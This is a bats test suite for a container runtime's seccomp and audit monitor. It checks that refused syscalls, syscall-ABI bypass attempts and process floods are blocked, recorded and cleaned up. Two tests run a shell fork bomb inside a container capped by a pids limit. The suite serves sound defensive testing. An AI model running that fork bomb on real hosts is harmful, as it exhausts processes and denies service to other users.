	# loaded machine, where 500 programs under ASan took seconds)
	RT_TIMEOUT=200 run ra run --bundle "$BUNDLE" "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	execs=$(ws_count)
	json=$(ra audit --format json --kind process "$ID")
	# try-syscall's records; one read only after it was gone is "?" (shared with the few others)
	total=$(jq -s '[.[] | select(.program == "/usr/local/bin/try-syscall" or .program == "?" or
		.argv[0] == "try-syscall" or .gone) | (.coalesced // 1)] | add // 0' <<<"$json")
	[ "$total" -ge "$execs" ] && [ "$total" -le $((execs + 60)) ] || fail "execs $execs, in the trail $total"
	[ "$(jq -s '[.[] | select(.coalesced)] | length' <<<"$json")" -gt 0 ] || fail "nothing coalesced"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	assert_output_contains "intact but incomplete"
	assert_output_contains "events coalesced into"
	! grep -q "dropped" <<<"$output" || fail "$output"
}

@test "audit-evidence: refused system calls are recorded with name, pid, program and count, and still fail with the profile's errno" {
	set_cmd 'for p in unshare-user unshare-net mount bpf io_uring_setup ptrace; do
			printf "%s=%s\n" "$p" "$(try-syscall $p)"; done >/tmp/results; try-syscall getpid; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_refused "$ID" io_uring_setup
	run rt exec "$ID" cat /tmp/results
	[ "$status" -eq 0 ] || fail "exec: $output"
	# the profile's errno (1, EPERM) reached the program: nothing was let through
	for p in unshare-user unshare-net mount bpf io_uring_setup; do
		grep -qx "$p=EPERM" <<<"$output" || fail "$p: $output"
	done
	init=$(container_pid "$ID")
	# the listener is the monitor's: no seccomp notification fd inside the container
	for pid in $init $(cat /proc/"$init"/task/*/children 2>/dev/null); do
		! ls -l /proc/"$pid"/fd 2>/dev/null | grep -q "seccomp" || fail "listener in the container: $(ls -l /proc/$pid/fd)"
	done
	[ "$(refused "$ID" unshare)" -eq 2 ] || fail "unshare: $(ra audit --format json --kind syscall "$ID")"
	[ "$(refused "$ID" mount)" -eq 1 ]
	[ "$(refused "$ID" bpf)" -eq 1 ]
	[ "$(refused "$ID" io_uring_setup)" -eq 1 ]
	# ptrace: refused by this profile unless it allows it (then it is no refusal to record)
	if grep -qx "ptrace=EPERM" <<<"$output"; then
		[ "$(refused "$ID" ptrace)" -eq 1 ] || fail "ptrace refused but not recorded"
	fi
	rec=$(ra audit --format json --kind syscall "$ID" | jq -c 'select(.syscall == "mount")')
	[ "$(jq -r .program <<<"$rec")" = /usr/local/bin/try-syscall ] || fail "$rec"
	[ "$(jq -r .errno <<<"$rec")" = 1 ] && [ "$(jq -r .count <<<"$rec")" = 1 ]
	pid=$(jq -r .pid <<<"$rec")
	[ "$pid" -gt 0 ] && [ "$pid" != "$init" ]
	# allowed calls are not notified: the shell's own syscalls left no record
	[ -z "$(ra audit --format json --kind syscall "$ID" | jq -r 'select(.program != "/usr/local/bin/try-syscall") | .program')" ]
	run ra audit --summary "$ID"
	assert_output_contains "syscalls refused"
	assert_output_contains "unshare by /usr/local/bin/try-syscall x2"
}

# refused-call-thread-pid: a refused call from a second thread was recorded under the thread's
# own id, a pid no process record has: the reviewer could not tie the refusal to the process
# (its arguments, its parent).  It is recorded under its process's pid, the thread's as `tid`.
@test "audit-evidence: refused-call-thread-pid: a call refused to a second thread is recorded under its process's pid" {
	set_cmd 'callflood 1 2 unshare'
	run ra run --bundle "$BUNDLE" "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	local json pid
	json=$(ra audit --format json "$ID")
	pid=$(jq -s 'map(select(.kind == "process" and .argv[0] == "callflood"))[0].pid' <<<"$json")
	[ "$pid" -gt 0 ] || fail "no process record: $json"
	[ "$(jq -s '[.[] | select(.kind == "syscall" and .syscall == "unshare")] | length' <<<"$json")" -gt 0 ] || fail "no refusal: $json"
	jq -se --argjson p "$pid" 'map(select(.kind == "syscall" and .pid != null)) | all(.pid == $p)' <<<"$json" >/dev/null ||
		fail "pids other than $pid: $(jq -c 'select(.kind == "syscall") | {pid, tid, count, coalesced}' <<<"$json" | sort | uniq -c | head)"
	jq -se --argjson p "$pid" 'any(.[]; .kind == "syscall" and .tid != null and .tid != $p)' <<<"$json" >/dev/null ||
		fail "no thread's id: $(jq -c 'select(.kind == "syscall") | {pid, tid}' <<<"$json" | sort -u | head)"
}

# seccomp.denyVsock's rule has an errno of its own: the monitor answers the notification with the
# errno of the rule whose arguments the call matches (EAFNOSUPPORT), not the profile's EPERM, and
# records that one; an AF_INET socket is not notified at all.
@test "audit-evidence: a refused AF_VSOCK socket is recorded with EAFNOSUPPORT, the errno the program saw" {
	set_cmd 'for p in socket-vsock socket-inet; do printf "%s=%s\n" "$p" "$(try-syscall $p)"; done >/tmp/results; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_refused "$ID" socket
	run rt exec "$ID" cat /tmp/results
	[ "$status" -eq 0 ] || fail "exec: $output"
	grep -qx "socket-vsock=EAFNOSUPPORT" <<<"$output" || fail "$output"
	grep -qx "socket-inet=ok" <<<"$output" || fail "$output"
	[ "$(refused "$ID" socket)" -eq 1 ] || fail "socket: $(syscall_recs "$ID")"
	rec=$(syscall_recs "$ID" | jq -c 'select(.syscall == "socket")')
	[ "$(jq -r .errno <<<"$rec")" = 97 ] || fail "$rec"
	[ "$(jq -r .program <<<"$rec")" = /usr/local/bin/try-syscall ] || fail "$rec"
}

@test "audit-evidence: with the monitor dead a denied call still fails (the kernel answers ENOSYS)" {
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done; try-syscall unshare-user >/tmp/res; try-syscall mount >>/tmp/res; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	[ -n "$mon" ] && kill -0 "$mon"
	kill -9 "$mon"
	for _ in $(seq 50); do kill -0 "$mon" 2>/dev/null || break; sleep 0.1; done
	! kill -0 "$mon" 2>/dev/null || fail "monitor $mon still alive"
	run rt exec "$ID" touch /tmp/go
	for _ in $(seq 50); do
		run rt exec "$ID" cat /tmp/res
		[ "$(wc -l <<<"$output")" -ge 2 ] && break
		sleep 0.1
	done
	[ "$(wc -l <<<"$output")" -eq 2 ] || fail "no result: $output"
	! grep -q "^ok" <<<"$output" || fail "a denied call succeeded without the monitor: $output"
	grep -qx "ENOSYS" <<<"$(head -1 <<<"$output")" || fail "unshare: $output"
}

@test "audit-evidence: a config with its own seccomp listener keeps it; refused-syscall records are off, and the trail says so" {
	# the config's SCMP_ACT_NOTIFY goes to its agent (tests/helpers/seccomp-agent answers EXDEV)
	AGENT=$HELPER_DIR/seccomp-agent
	[ -x "$AGENT" ] || skip "seccomp-agent not built (make test-helpers)"
	AGENT_SOCK=$BUNDLE/agent.sock
	"$AGENT" --state "$BUNDLE/agent.state" --log "$BUNDLE/agent.log" --conns 1 "$AGENT_SOCK" \
		</dev/null >/dev/null 2>&1 &
	agent_pid=$!
	for _ in $(seq 50); do [ -S "$AGENT_SOCK" ] && break; sleep 0.1; done
	update_config ".linux.seccomp = {\"defaultAction\": \"SCMP_ACT_ALLOW\", \"listenerPath\": \"$AGENT_SOCK\",
		\"syscalls\": [{\"names\": [\"mkdir\", \"mkdirat\"], \"action\": \"SCMP_ACT_NOTIFY\"}]}"
	set_cmd 'mkdir /tmp/notified 2>&1; echo "mkdir=$?"; try-syscall mount'
	run ra run --bundle "$BUNDLE" "$ID"
	kill "$agent_pid" 2>/dev/null
	wait "$agent_pid" 2>/dev/null || true
	[ "$status" -eq 0 ] || fail "run: $output"
	# the engine's agent answered its call, the profile's filter still refused mount
	grep -qi "cross-device" <<<"$output" || fail "not the agent's answer: $output"
	assert_output_contains "EPERM"
	[ -n "$(ra audit --format json --kind audit_error "$ID" | jq -r 'select(.source == "syscall") | .error' | grep "refused-syscall records are off: the config's seccomp has its own listener")" ] ||
		fail "$(ra audit --format json "$ID")"
	[ "$(refused "$ID" mount)" -eq 0 ]
}

@test "audit-evidence: refused system calls of exec'd processes are recorded with the exec's pid and program, and fail with the profile's errno" {
	set_cmd 'sleep 60'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	# the exec'd program itself makes the call: its pid is the pid file's
	run rt exec --pid-file "$BUNDLE/exec.pid" "$ID" try-syscall mount
	[ "$status" -eq 0 ] || fail "exec: $output"
	[ "$output" = EPERM ] || fail "mount from exec: $output"
	epid=$(cat "$BUNDLE/exec.pid")
	for _ in $(seq 50); do [ "$(refused "$ID" mount)" -ge 1 ] && break; sleep 0.1; done
	rec=$(syscall_recs "$ID" | jq -c 'select(.syscall == "mount")')
	[ -n "$rec" ] || fail "no record of exec's mount: $(ra audit --format json "$ID")"
	[ "$(jq -r .pid <<<"$rec")" = "$epid" ] || fail "pid $epid: $rec"
	[ "$(jq -r .program <<<"$rec")" = /usr/local/bin/try-syscall ] || fail "$rec"
	[ "$(jq -r .errno <<<"$rec")" = 1 ] && [ "$(jq -r .count <<<"$rec")" = 1 ] || fail "$rec"
	# the rest of the profile's refusals from a shell exec'd with its children
	run rt exec "$ID" sh -c 'for p in unshare-user unshare-net bpf io_uring_setup ptrace keyctl add_key; do
			printf "%s=%s\n" "$p" "$(try-syscall $p)"; done'
	[ "$status" -eq 0 ] || fail "exec: $output"
	for p in unshare-user unshare-net bpf io_uring_setup keyctl add_key; do
		grep -qx "$p=EPERM" <<<"$output" || fail "$p: $output"
	done
	for _ in $(seq 50); do [ "$(refused "$ID" add_key)" -ge 1 ] && break; sleep 0.1; done
	[ "$(refused "$ID" unshare)" -eq 2 ] || fail "unshare: $(syscall_recs "$ID")"
	for n in bpf io_uring_setup keyctl add_key; do
		[ "$(refused "$ID" $n)" -eq 1 ] || fail "$n: $(syscall_recs "$ID")"
	done
	if grep -qx "ptrace=EPERM" <<<"$output"; then
		[ "$(refused "$ID" ptrace)" -eq 1 ] || fail "ptrace refused but not recorded"
	fi
	# nothing but try-syscall's refusals: the shell's allowed calls are not notified
	[ -z "$(syscall_recs "$ID" | jq -r 'select(.program != "/usr/local/bin/try-syscall") | .program')" ] ||
		fail "$(syscall_recs "$ID")"
	run ra audit --summary "$ID"
	grep -qx "  keyctl by /usr/local/bin/try-syscall" <<<"$output" || fail "summary: $output"
}

@test "audit-evidence: refused calls of exec -d and exec -t are recorded; the exec'd process holds no listener" {
	set_cmd 'sleep 60'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	# (sleep's stdio away from `run`'s pipe, which it would hold open for its 30 s)
	run rt exec -d --pid-file "$BUNDLE/d.pid" "$ID" sh -c 'try-syscall bpf >/tmp/d.res; exec sleep 30 </dev/null >/dev/null 2>&1'
	[ "$status" -eq 0 ] || fail "exec -d: $output"
	dpid=$(cat "$BUNDLE/d.pid")
	for _ in $(seq 50); do [ "$(refused "$ID" bpf)" -ge 1 ] && break; sleep 0.1; done
	[ "$(refused "$ID" bpf)" -eq 1 ] || fail "exec -d: $(syscall_recs "$ID")"
	[ "$(rt exec "$ID" cat /tmp/d.res)" = EPERM ]
	# the listener is the monitor's alone: not in the detached process (now sleep) nor its tree
	for _ in $(seq 50); do [ "$(readlink /proc/"$dpid"/exe)" != /bin/busybox ] || [ "$(cat /proc/$dpid/comm)" = sleep ] && break; sleep 0.1; done
	! ls -l /proc/"$dpid"/fd | grep -q seccomp || fail "listener in the exec'd process: $(ls -l /proc/$dpid/fd)"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	ls -l /proc/"$mon"/fd | grep -q "seccomp notify" || fail "the monitor holds no listener"
	# exec -t: the same through a terminal
	requires script
	run script -qec "timeout 30 '$AGENTRT' --root '$TEST_ROOT' exec -t $ID try-syscall io_uring_setup" /dev/null
	[ "$status" -eq 0 ] || fail "exec -t: $output"
	assert_output_contains EPERM
	for _ in $(seq 50); do [ "$(refused "$ID" io_uring_setup)" -ge 1 ] && break; sleep 0.1; done
	[ "$(refused "$ID" io_uring_setup)" -eq 1 ] || fail "exec -t: $(syscall_recs "$ID")"
}

@test "audit-evidence: a flood of refused calls from exec is coalesced, every call counted" {
	set_cmd 'sleep 60'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	# ~2 s here; the container's `sleep 60` bounds it: a stall of the monitor (seen once in the
	# ASan pass, the exec then ended with the container) is told where the monitor was
	rt exec "$ID" sh -c 'i=0; while [ $i -lt 400 ]; do try-syscall mount; i=$((i + 1)); done | sort | uniq -c' >"$BUNDLE/exec.out" 2>&1 &
	local pid=$! t
	for t in $(seq 300); do kill -0 $pid 2>/dev/null || break; sleep 0.1; done
	kill -0 $pid 2>/dev/null && fail "exec still running after 30 s: $(monitor_where "$ID")"
	wait $pid
	status=$?
	output=$(cat "$BUNDLE/exec.out")
	[ "$status" -eq 0 ] || fail "exec: $output"
	[ "$(tr -s ' ' <<<"$output" | sed 's/^ //')" = "400 EPERM" ] || fail "$output"
	for _ in $(seq 50); do [ "$(refused "$ID" mount)" -ge 400 ] && break; sleep 0.1; done
	run rt delete -f "$ID"
	[ "$(refused "$ID" mount)" -eq 400 ] || fail "$(refused "$ID" mount) of 400: $(syscall_recs "$ID" | tail -3)"
	full=$(syscall_recs "$ID" | jq -s '[.[] | select(.syscall == "mount" and .verdict == "refused")] | length')
	[ "$full" -lt 400 ] || fail "nothing coalesced ($full full records)"
	[ -n "$(syscall_recs "$ID" | jq -c 'select(.coalesced and .syscall == "mount")')" ] || fail "no coalesced record"
}

# mon_cpu_ms PID: the user + system CPU time of process PID, in milliseconds
mon_cpu_ms() {
	awk -v hz="$(getconf CLK_TCK)" '{ print int(($14 + $15) * 1000 / hz) }' /proc/"$1"/stat
}

# flood_field NAME TEXT: NAME's number in callflood's line
flood_field() {
	sed -n "s/.*\b$1=\([0-9]*\).*/\1/p" <<<"$2"
}

# The monitor runs outside the container's cgroup and answers each refused call: a container held
# to a quarter of a CPU that looped on a refused call in four threads made it spend ~0.8 of a CPU
# (3,310 ms in 4.2 s, 522,068 calls), uncharged to the container and bounded only by the monitor
# being one thread.  Now it answers them within a budget (monitor_seccomp.c, 1,000 at once, then
# 1,000 a second): the callers wait in the kernel for their answer.
@test "audit-evidence: refused-call-flood-cpu: a container held to 0.25 CPU flooding refused calls from four threads keeps its monitor under that CPU; every call gets EPERM and is counted" {
	update_config '.linux.resources.cpu = {"quota": 25000, "period": 100000}'
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done; callflood 4 4 >/tmp/flood.out; mv /tmp/flood.out /tmp/flood.done; sleep 60'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	rt exec "$ID" touch /tmp/go
	before=$(mon_cpu_ms "$mon")
	t0=$(date +%s%N)
	for _ in $(seq 150); do rt exec "$ID" test -e /tmp/flood.done && break; sleep 0.1; done
	used=$(($(mon_cpu_ms "$mon") - before))
	wall=$((($(date +%s%N) - t0) / 1000000))
	out=$(rt exec "$ID" cat /tmp/flood.done) || fail "the flood did not end: $(monitor_where "$ID")"
	echo "# the monitor: $used ms of CPU in $wall ms; the flood: $out" >&3
	calls=$(flood_field calls "$out")
	# each call failed with the profile's errno, and nothing else
	[ "${calls:-0}" -gt 0 ] && [ "$(flood_field eperm "$out")" = "$calls" ] && [ "$(flood_field other "$out")" = 0 ] ||
		fail "not every call failed with EPERM: $out"
	# the container's own limit (0.25 CPU) bounds its monitor too; it spent 0.8 before
	[ "$((used * 4))" -lt "$wall" ] || fail "the monitor used $used ms of CPU in $wall ms ($out)"
	run rt delete -f "$ID"
	[ "$status" -eq 0 ] || fail "delete: $output"
	# the trail adds up: every call made is a record, in full or counted
	[ "$(refused "$ID" unshare)" -eq "$calls" ] || fail "$(refused "$ID" unshare) recorded of $calls: $(syscall_recs "$ID" | tail -3)"
	[ -n "$(syscall_recs "$ID" | jq -c 'select(.coalesced and .syscall == "unshare")')" ] || fail "no coalesced record"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	run ra audit --summary "$ID"
	assert_output_contains "unshare by /usr/local/bin/callflood x$calls"
}

# The callers of a refused call wait in the kernel while the monitor's budget is spent: a signal
# still ends that wait, so stopping a flooding container is as prompt as ever (a container that
# only sleeps takes ~2 s here from kill to its monitor's end, as the flood's did before the
# budget), and its monitor ends with it.  The flood would run 30 s.
@test "audit-evidence: refused-call-flood-cpu: kill and delete --force end a container flooding refused calls at once, and its monitor with it" {
	local how id mon t0 ms stopped
	set_cmd 'callflood 30 8 mount >/tmp/flood.out; sleep 60'
	for how in kill delete; do
		id=$ID-$how
		run_detached "$id"
		[ "$status" -eq 0 ] || fail "run: $output"
		mon=$(cut -d' ' -f1 "$TEST_ROOT/$id/monitor.pid")
		# past the budget's burst: the callers are held
		for _ in $(seq 100); do [ "$(refused "$id" mount)" -gt 1000 ] && break; sleep 0.1; done
		[ "$(refused "$id" mount)" -gt 1000 ] || fail "$how: the flood did not start: $(syscall_recs "$id" | tail -2)"
		t0=$(date +%s%N)
		if [ "$how" = kill ]; then
			rt kill "$id" KILL || fail "kill"
			wait_for_status "$id" stopped 10
		else
			run rt delete -f "$id"
			[ "$status" -eq 0 ] || fail "delete -f: $output"
		fi
		stopped=$((($(date +%s%N) - t0) / 1000000))
		for _ in $(seq 200); do kill -0 "$mon" 2>/dev/null || break; sleep 0.05; done
		ms=$((($(date +%s%N) - t0) / 1000000))
		echo "# $how: stopped in $stopped ms, its monitor gone in $ms ms" >&3
		! kill -0 "$mon" 2>/dev/null || fail "$how: the monitor $mon is still there after $ms ms: $(monitor_where "$id")"
		[ "$ms" -lt 10000 ] || fail "$how took $ms ms"
		[ "$how" = delete ] || rt delete "$id"
		# the monitor ended as usual: the container's end is in the trail
		[ -n "$(ra audit --format json --kind exit "$id")" ] || fail "$how: no exit record: $(ra audit --format json "$id" | tail -3)"
	done
}

# pids_cgroup PID: the directory of PID's pids cgroup that has pids.events (v1 or v2)
pids_cgroup() {
	local c d
	for c in $(awk -F: '$2 == "pids" || $1 == "0" {print $3}' "/proc/$1/cgroup" | sort -u); do
		for d in "/sys/fs/cgroup/pids$c" "/sys/fs/cgroup$c"; do
			[ -f "$d/pids.events" ] && echo "$d" && return 0
		done
	done
	return 1
}

# pids-limit-burst-end: the container's processes' exits looked at pids.events at most every
# 250 ms and a look put off was never taken, so the refusals of a burst's last 250 ms (a bomb
# whose tree collapsed, a build's make -j at the limit) were in the trail only at the end.
@test "audit-evidence: pids-limit-burst-end: the forks refused in a burst's last moments are in the trail while the container runs" {
	update_config '.linux.resources.pids = {"limit": 32}'
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		b() { b & b & wait; }; (b) 2>/dev/null; echo done >/tmp/done; exec sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	pcg=$(pids_cgroup "$ipid") || fail "no pids cgroup of the container: $(cat "/proc/$ipid/cgroup")"
	touch "/proc/$ipid/root/tmp/go"
	wait_for_file "/proc/$ipid/root/tmp/done" 60
	max=$(awk '$1 == "max" {print $2}' "$pcg/pids.events")
	[ "$max" -gt 0 ] || fail "no fork was refused: $(cat "$pcg/pids.events")"
	# bounded: the trail's count reaches the kernel's (the bomb is over: nothing moves it)
	total=0
	for _ in $(seq 50); do
		total=$(ra audit --format json --kind pids_limit "$ID" | jq -s 'map(.total) | max // 0')
		[ "$total" -eq "$max" ] && break
		sleep 0.1
	done
	echo "# $max forks refused; the trail's count $total" >&3
	[ "$total" -eq "$max" ] || fail "the trail counts $total of the $max refused forks while the container runs"
	rt delete -f "$ID"
}

# bats test_tags=flood
@test "audit-evidence: fork-storm-at-pids-max: a fork bomb held at pids.max does not stop the monitor recording a program run amid it and the refused forks as they come (pids-limit-unseen), and delete --force leaves no process, monitor or cgroup" {
	# The bomb fills pids.max and keeps forking into it (started again whenever its tree has
	# collapsed: a tree whose forks fail ends, on a fast machine before 100 refusals); the
	# init, which needs no new pid,
	# then execs a marker program of its own name amid the storm.  The monitor outside the
	# cgroup must still record that exec, the refused forks (pids_limit) and the end, and
	# delete --force must end every process of the cgroup and the monitor with them.
	update_config '.linux.resources.pids = {"limit": 64}'
	set_cmd 'cp /bin/busybox /tmp/busybox-marker
		while [ ! -e /tmp/go ]; do sleep 0.1; done
		b() { b & b & wait; }; (while :; do b; done) 2>/dev/null &
		while [ ! -e /tmp/go2 ]; do :; done
		exec /tmp/busybox-marker sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	pcg=$(pids_cgroup "$ipid") || fail "no pids cgroup of the container: $(cat "/proc/$ipid/cgroup")"
	touch "/proc/$ipid/root/tmp/go"
	# bounded: until forks are refused at the limit
	for _ in $(seq 300); do
		[ "$(awk '$1 == "max" {print $2}' "$pcg/pids.events")" -ge 100 ] && break
		sleep 0.1
	done
	[ "$(awk '$1 == "max" {print $2}' "$pcg/pids.events")" -ge 100 ] || fail "the bomb did not reach the limit: $(cat "$pcg/pids.events")"
	touch "/proc/$ipid/root/tmp/go2"
	# bounded: the marker amid the storm is in the trail
	marker=
	for _ in $(seq 200); do
		marker=$(ra audit --format json --kind process "$ID" | jq -c 'select(.exe == "/tmp/busybox-marker")')
		[ -n "$marker" ] && break
		sleep 0.1
	done
	storm=$(awk '$1 == "max" {print $2}' "$pcg/pids.events")
	echo "# $storm forks refused before the marker was read; pids.current $(cat "$pcg/pids.current")" >&3
	[ -n "$marker" ] || fail "the program run amid the fork storm is not in the trail: $(ra audit --format json "$ID" | tail -3)"
	jq -e '.argv == ["/tmp/busybox-marker", "sleep", "600"] and .pid == '"$ipid" <<<"$marker" >/dev/null || fail "marker: $marker"
	# the refused forks are in the trail while the container runs (bounded wait), not only at
	# its end: pids-limit-unseen, on cgroup v1 the kernel never wakes a watch of pids.events
	live=
	for _ in $(seq 100); do
		live=$(ra audit --format json --kind pids_limit "$ID")
		[ -n "$live" ] && break
		sleep 0.1
	done
	[ -n "$live" ] || fail "no pids_limit record while $(awk '$1 == "max" {print $2}' "$pcg/pids.events") forks were refused"
	run rt delete -f "$ID"
	[ "$status" -eq 0 ] || fail "delete -f amid the storm: $output"
	for _ in $(seq 100); do kill -0 "$mon" 2>/dev/null || break; sleep 0.1; done
	! kill -0 "$mon" 2>/dev/null || fail "the monitor $mon outlived delete: $(grep State "/proc/$mon/status")"
	[ ! -e "$pcg" ] || fail "the cgroup is left: $pcg ($(cat "$pcg/cgroup.procs" 2>/dev/null | wc -l) processes)"
	[ ! -e "/proc/$ipid" ] || fail "the init is left"
	json=$(ra audit --format json "$ID")
	jq -se 'any(.[]; .kind == "pids_limit" and .total >= 100)' <<<"$json" >/dev/null ||
		fail "the refused forks are not in the trail: $(jq -c 'select(.kind != "process")' <<<"$json" | cut -c1-200)"
	jq -se 'any(.[]; .kind == "exit") and any(.[]; .kind == "delete")' <<<"$json" >/dev/null || fail "no exit or delete record"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
}

# The control: the budget holds back only a flood.  A shell's 40 execs of a program that makes a
# refused call are each a full record, at the pace they came.
@test "audit-evidence: refused-call-flood-cpu: an ordinary program's few refused calls are each a full record, none held back" {
	set_cmd 'sleep 60'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	t0=$(date +%s%N)
	run rt exec "$ID" sh -c 'i=0; while [ $i -lt 40 ]; do try-syscall bpf; i=$((i + 1)); done | sort | uniq -c'
	[ "$status" -eq 0 ] || fail "exec: $output"
	[ "$(tr -s ' ' <<<"$output" | sed 's/^ //')" = "40 EPERM" ] || fail "$output"
	for _ in $(seq 50); do [ "$(refused "$ID" bpf)" -ge 40 ] && break; sleep 0.1; done
	[ "$(syscall_recs "$ID" | jq -s '[.[] | select(.syscall == "bpf" and .verdict == "refused" and .count == 1 and .program == "/usr/local/bin/try-syscall")] | length')" -eq 40 ] ||
		fail "not 40 full records: $(syscall_recs "$ID" | tail -3)"
	[ -z "$(syscall_recs "$ID" | jq -c 'select(.coalesced)')" ] || fail "counted: $(syscall_recs "$ID" | jq -c 'select(.coalesced)')"
}

@test "audit-evidence: abi-i386-bypass: every call the agent profile denies, through int 0x80 with its i386 number, fails with EPERM and is recorded, i386's own umount, stime, clock_settime64, clock_adjtime64 too" {
	requires i386
	abi_sweep agent i386
}

@test "audit-evidence: abi-i386-bypass: agent-strict's denied calls (ptrace, process_vm_*, personality, vhangup...) through int 0x80 fail with EPERM and are recorded" {
	requires i386
	abi_sweep agent-strict i386
}

@test "audit-evidence: abi-x32-bypass: every call the agent profile denies, with the x32 bit (x32's own ioctl 514, kexec_load 528), fails with EPERM and is recorded under its name" {
	abi_sweep agent x32
}

@test "audit-evidence: abi-x32-bypass: agent-strict's denied calls with the x32 bit (ptrace 521, process_vm_readv 539) fail with EPERM and are recorded" {
	abi_sweep agent-strict x32
}

@test "audit-evidence: open-tree-attr-bypass: open_tree under its Linux 6.15 name (467, unknown to libseccomp 2.5) is refused and recorded as open_tree is, on every ABI, also in a profile that names only open_tree" {
	# before: libseccomp dropped a rule it could not name and the deny-list filter let 467
	# through, so `open_tree_attr(AT_FDCWD, "/", 0)` gave an fd where open_tree was refused
	cat >"$BUNDLE/profile.json" <<-'JSON'
		{ "name": "only-open-tree", "extends": "agent",
		  "seccomp": { "deny": ["open_tree", "mount"] } }
	JSON
	# where int 0x80 faults (i386_abi) the i386 part runs in the VM lane (tests/vm/abi-i386.bats)
	local abis="x86_64 x86 x32" i386="i386:open_tree_attr" ctl="i386:getpid=ok"
	i386_abi || { abis="x86_64 x32" i386= ctl="x32:getpid=(ok|ENOSYS)"; }
	loop="for p in open_tree_attr $i386 x32:open_tree_attr open_tree ${ctl%=*}; do printf \"%s=%s\\n\" \$p \"\$(try-syscall \$p)\"; done"
	for prof in agent "$BUNDLE/profile.json"; do
		rt delete -f "$ID" >/dev/null 2>&1
		rm -rf "${TEST_STORE:?}/.audit/$ID"
		set_cmd "$loop; sleep 30"
		rt_bg --profile "$prof" run -d --bundle "$BUNDLE" "$ID"
		[ "$status" -eq 0 ] || fail "run ($prof): $output"
		run rt exec "$ID" sh -c "$loop"
		[ "$status" -eq 0 ] || fail "exec ($prof): $output"
		for p in open_tree_attr $i386 x32:open_tree_attr open_tree; do
			grep -qx "$p=EPERM" <<<"$output" || fail "$prof: $p not refused: $output"
		done
		grep -qxE "$ctl" <<<"$output" || fail "$prof: the control: $output"
		for _ in $(seq 50); do [ "$(refused "$ID" open_tree_attr)" -ge $((2 * $(wc -w <<<"$abis"))) ] && break; sleep 0.1; done
		recs=$(syscall_recs "$ID")
		for arch in $abis; do
			[ "$(jq -s --arg a "$arch" '[.[] | select(.syscall == "open_tree_attr" and .nr % 1073741824 == 467 and .arch == $a and .errno == 1)] | length' <<<"$recs")" -eq 2 ] ||
				fail "$prof: open_tree_attr on $arch not recorded twice (process and exec): $recs"
		done
	done
	# the agent profile names it, and a profile may name it itself
	run rt profile show agent
	jq -e '.seccomp.deny | index("open_tree_attr")' <<<"$output" >/dev/null || fail "not in the agent profile: $output"
	echo '{ "name": "named", "extends": "agent", "seccomp": { "deny": ["open_tree_attr"] } }' >"$BUNDLE/named.json"
	run rt profile check "$BUNDLE/named.json"
	[ "$status" -eq 0 ] || fail "profile check: $output"
}

@test "audit-evidence: the listener of an exec that ended is closed: 100 execs leave the monitor's fds as they were" {
	# (100: a listener kept per exec shows after the first; under ASan each exec costs 0.3 s)
	set_cmd 'sleep 120'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	rt exec "$ID" try-syscall mount >/dev/null
	before=$(ls /proc/"$mon"/fd | wc -l)
	for i in $(seq 100); do
		rt exec "$ID" try-syscall mount >/dev/null || fail "exec $i"
	done
	for _ in $(seq 50); do [ "$(ls /proc/"$mon"/fd | wc -l)" -le "$before" ] && break; sleep 0.1; done
	after=$(ls /proc/"$mon"/fd | wc -l)
	[ "$after" -le "$before" ] || fail "monitor fds: $before before, $after after 100 execs: $(ls -l /proc/$mon/fd)"
	# control: a live exec's listener is counted
	rt exec -d "$ID" sleep 20
	for _ in $(seq 50); do [ "$(ls /proc/"$mon"/fd | wc -l)" -gt "$after" ] && break; sleep 0.1; done
	[ "$(ls /proc/"$mon"/fd | wc -l)" -gt "$after" ] || fail "a live exec's listener is not in the monitor"
	for _ in $(seq 50); do [ "$(refused "$ID" mount)" -ge 101 ] && break; sleep 0.1; done
	[ "$(refused "$ID" mount)" -eq 101 ] || fail "$(refused "$ID" mount) of 101"
}

# cpu_ticks PID: user + system clock ticks the process has used
cpu_ticks() {
	awk '{ print $14 + $15 }' /proc/"$1"/stat
}

@test "audit-evidence: a host process writing 10,000 files on the workspace's filesystem leaves no records and does not keep the monitor busy" {
	bind_workspace
	# no workspace.size: the upper layer is a plain directory of the store's filesystem (as on a
	# host without loop devices), so the monitor's filesystem mark sees the host's files too
	printf '{"name": "agent-plain-upper", "extends": "agent", "workspace": {"mode": "overlay", "size": "0"}}\n' \
		>"$BUNDLE/plain-upper.json"
	set_cmd 'while [ ! -e /workspace/go ]; do sleep 0.1; done
		mkdir -p /workspace/n1/n2/n3; echo x >/workspace/n1/n2/n3/after.txt; echo y >/workspace/top-after.txt
		echo done >/tmp/done; sleep 60'
	AGENTRT_PROFILE=$BUNDLE/plain-upper.json run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
